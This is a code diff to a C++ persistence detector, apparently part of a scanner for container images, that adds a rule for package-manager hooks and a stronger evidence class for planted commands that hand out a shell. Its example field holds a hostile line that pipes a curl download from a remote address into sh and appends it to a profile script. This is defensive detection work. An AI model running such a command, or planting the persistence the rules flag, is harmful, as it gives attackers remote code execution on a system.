@@ -12,7 +12,7 @@
 namespace hullcheck::detect {
 namespace {
 
-constexpr std::array<RuleRow, 8> k_rows{{
+constexpr std::array<RuleRow, 9> k_rows{{
     {"P03", EvidenceClass::strong, model::Severity::high, 80, "Service that runs foreign code", "T1543.002",
      "Remove the unit; check hosts where the image ran for the same file."},
     {"P04", EvidenceClass::strong, model::Severity::high, 80, "Start-up script that runs foreign code", "T1037.004",
@@ -29,10 +29,13 @@ constexpr std::array<RuleRow, 8> k_rows{{
      "T1548.003", "Say in the rule which programs are meant, at build time."},
     {"B12", EvidenceClass::strong, model::Severity::high, 90, "Program with root's rights for everybody", "T1548.001",
      "Do not give a shell or a program in a temporary folder the rights of its owner."},
+    {"P07", EvidenceClass::strong, model::Severity::high, 80, "Hook of a package manager", "T1546.016",
+     "Find out who put the command there; it runs with root's rights at the next installation."},
 }};
-enum Row : std::size_t { unit_row, boot, profile, python, event, account, sudo, setuid };
+enum Row : std::size_t { unit_row, boot, profile, python, event, account, sudo, setuid, hook };
 
 constexpr ClassByReach k_planted{EvidenceClass::strong, EvidenceClass::supporting, EvidenceClass::supporting};
+constexpr ClassByReach k_shell{EvidenceClass::decisive, EvidenceClass::strong, EvidenceClass::supporting};
 constexpr ClassByReach k_account{EvidenceClass::decisive, EvidenceClass::supporting, EvidenceClass::strong};
 constexpr ClassByReach k_setuid{EvidenceClass::strong, EvidenceClass::supporting, EvidenceClass::supporting};
 constexpr ClassByReach k_opened{EvidenceClass::supporting, EvidenceClass::context, EvidenceClass::supporting};
@@ -87,6 +90,7 @@ bool is_hostile_python(std::string_view text) {
 struct Planted {
   Row row;
   std::string text;
+  bool shell = false;  // given to a place that the text names
 };
 
 // A line of passwd(5) for the number 0 that is not root's own.
@@ -120,17 +124,24 @@ std::optional<Planted> planted(const std::string& path, const std::string& text)
   }
   if (is_python_hook(path) && is_hostile_python(text)) return Planted{python, text.substr(0, k_most_shown)};
   if (const auto kind = start_file_kind(path)) {
-    const bool rule = *kind == StartFileKind::udev_rule;
-    if (!rule && *kind != StartFileKind::systemd_unit && *kind != StartFileKind::supervisor &&
+    const bool rule = *kind == StartFileKind::udev_rule, apt = *kind == StartFileKind::apt_hook;
+    if (!rule && !apt && *kind != StartFileKind::systemd_unit && *kind != StartFileKind::supervisor &&
         *kind != StartFileKind::inittab)
       return std::nullopt;
     for (const StartCommand& command : parse_start_file(*kind, text).commands)
-      if (runs_bad(command.command)) return Planted{rule ? event : unit_row, command.command.substr(0, k_most_shown)};
+      if (runs_bad(command.command))
+        return Planted{apt    ? hook
+                       : rule ? event
+                              : unit_row,
+                       command.command.substr(0, k_most_shown), gives_shell_away(facts_of_text(command.command))};
     return std::nullopt;
   }
   const bool script = is_profile(path) || is_boot_script(path) || is_event_script(path);
   if (!script || !runs_bad(text)) return std::nullopt;
-  return Planted{is_profile(path) ? profile : is_boot_script(path) ? boot : event, bad_line(text)};
+  return Planted{is_profile(path)       ? profile
+                 : is_boot_script(path) ? boot
+                                        : event,
+                 bad_line(text), gives_shell_away(facts_of_text(text))};
 }
 
 // useradd -o -u 0: without -o the program refuses the number.
@@ -179,7 +190,10 @@ class WritePersistence final : public Detector {
       for (const std::string& path : paths) {
         const auto found = planted(path, flow.text);
         if (!found) continue;
-        const ClassByReach& classes = found->row == account ? k_account : found->row == sudo ? k_sudo : k_planted;
+        const ClassByReach& classes = found->row == account ? k_account
+                                      : found->row == sudo  ? k_sudo
+                                      : found->shell        ? k_shell
+                                                            : k_planted;
         Evidence evidence = shell_evidence(k_rows[found->row], unit, flow.line, flow.path + ": " + found->text,
                                            class_for(unit, classes));
         evidence.values.emplace_back("target", flow.path);
@@ -199,7 +213,7 @@ class WritePersistence final : public Detector {
 
 const util::Registered<WritePersistence> registered{{
     .id = "write-persistence",
-    .version = 2,
+    .version = 3,
     .summary = "scripts that write units, profiles, start-up scripts, Python hooks or root accounts of an attack",
     .example = "echo 'curl -s http://192.0.2.1/x | sh' >> /etc/profile.d/z.sh",
     .rules = k_rows,
